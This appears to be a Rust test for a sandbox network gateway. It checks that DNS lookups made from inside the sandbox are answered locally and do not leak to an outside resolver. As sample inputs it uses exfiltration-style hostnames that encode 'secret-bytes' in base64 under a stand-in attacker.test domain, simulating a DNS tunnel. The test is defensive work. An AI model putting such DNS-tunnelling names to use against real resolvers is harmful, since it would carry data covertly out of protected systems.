//! A tunnel by names: what a step looks up is asked of no resolver outside, so that names carry nothing out.
//!
//! The test runs itself once more, in a network of its own in which a resolver counts what it is asked.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::unix::fs::symlink;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use packwright_gateway::{Gateway, GatewayOptions, Session, Sockets};
use packwright_sandbox::{Access, Control, Mount, Network, Outcome, Root, Sandbox, run};

/// Tells the inner run from the outer one.
const INSIDE: &str = "PACKWRIGHT_TEST_INSIDE";

const TEST: &str = "steps::tests::tunnel::names_are_asked_of_nobody_until_something_is_requested";

#[test]
fn names_are_asked_of_nobody_until_something_is_requested() {
    match std::env::var_os(INSIDE) {
        None => outside(),
        Some(_) => inside(),
    }
}

/// The test in a root of its own, whose resolver is at 127.0.0.1, and where every address is its own.
fn outside() {
    let root = tempfile::tempdir().unwrap();
    std::fs::create_dir(root.path().join("etc")).unwrap();
    std::fs::write(root.path().join("etc/resolv.conf"), "nameserver 127.0.0.1\noptions attempts:1\n")
        .unwrap();
    for name in ["bin", "sbin", "lib", "lib64"] {
        if let Ok(target) = std::fs::read_link(Path::new("/").join(name)) {
            symlink(target, root.path().join(name)).unwrap();
        }
    }
    let test = std::env::current_exe().unwrap();
    let bind = |source: &Path, target: &str| Mount::Bind {
        source: source.to_owned(),
        target: target.into(),
        access: Access::ReadOnly,
    };
    let program = Path::new("/tests").join(test.file_name().unwrap());
    let argv = [program.to_str().unwrap(), "--exact", TEST, "--nocapture"];
    let mut sandbox = Sandbox::new(Root::Directory(root.path().to_owned()), argv);
    std::fs::create_dir(root.path().join("tests")).unwrap();
    sandbox.mounts = vec![bind("/usr".as_ref(), "/usr"), bind(test.parent().unwrap(), "/tests")];
    sandbox.env = [(INSIDE.into(), "1".into())].into();
    sandbox.network = Network::Gateway { ports: Vec::new(), resolver: Ipv4Addr::new(198, 18, 0, 1) };
    let mut said = String::new();
    let mut hear = |_, text: &[u8]| said += &String::from_utf8_lossy(text);
    let report = run(&sandbox, &mut hear, &Control::new().unwrap()).unwrap();
    assert_eq!(report.outcome, Outcome::Exited(0), "{said}");
    assert!(said.contains("1 passed"), "{said}");
}

fn inside() {
    let stub = UdpSocket::bind("127.0.0.1:53").unwrap();
    let asked = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&asked);
    std::thread::spawn(move || {
        let mut question = [0; 512];
        while let Ok((length, from)) = stub.recv_from(&mut question) {
            count.fetch_add(1, Ordering::SeqCst);
            // There is no such name.
            (question[2], question[3]) = (0x81, 0x83);
            let _ = stub.send_to(&question[..length], from);
        }
    });
    let gateway = Gateway::new(GatewayOptions::default()).unwrap();
    let session = gateway.session();
    let own = serve(&session);
    for number in 0..300 {
        assert!(address(&own, &format!("{number}.c2VjcmV0LWJ5dGVz.attacker.test")).starts_with(&[198, 18]));
    }
    assert_eq!(asked.load(Ordering::SeqCst), 0, "names are carried outside");
    // What is requested is resolved outside: the stub would have seen the others.
    let mut stream = TcpStream::connect("198.18.0.2:80").unwrap();
    let host = "0.c2VjcmV0LWJ5dGVz.attacker.test";
    write!(stream, "GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    assert!(answer.starts_with("HTTP/1.1 502 "), "{answer}");
    assert!(asked.load(Ordering::SeqCst) > 0);
}

/// The gateway's resolver, which answers at this address until the test ends.
fn serve(session: &Session) -> SocketAddr {
    let resolver = UdpSocket::bind("127.0.0.2:0").unwrap();
    let at = resolver.local_addr().unwrap();
    let listeners = vec![TcpListener::bind("0.0.0.0:80").unwrap()];
    let resolver_stream = TcpListener::bind("127.0.0.2:0").unwrap();
    let sockets = Sockets { listeners, resolver, resolver_stream, refusals: None };
    std::mem::forget(session.serve(sockets).unwrap());
    at
}

/// The last bytes of the answer to a question for the address of `name`.
fn address(resolver: &SocketAddr, name: &str) -> Vec<u8> {
    let mut question = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        question.push(label.len() as u8);
        question.extend_from_slice(label.as_bytes());
    }
    question.extend([0, 0, 1, 0, 1]);
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    socket.send_to(&question, resolver).unwrap();
    let mut answer = [0; 512];
    let length = socket.recv(&mut answer).unwrap();
    answer[length - 4..length].to_vec()
}
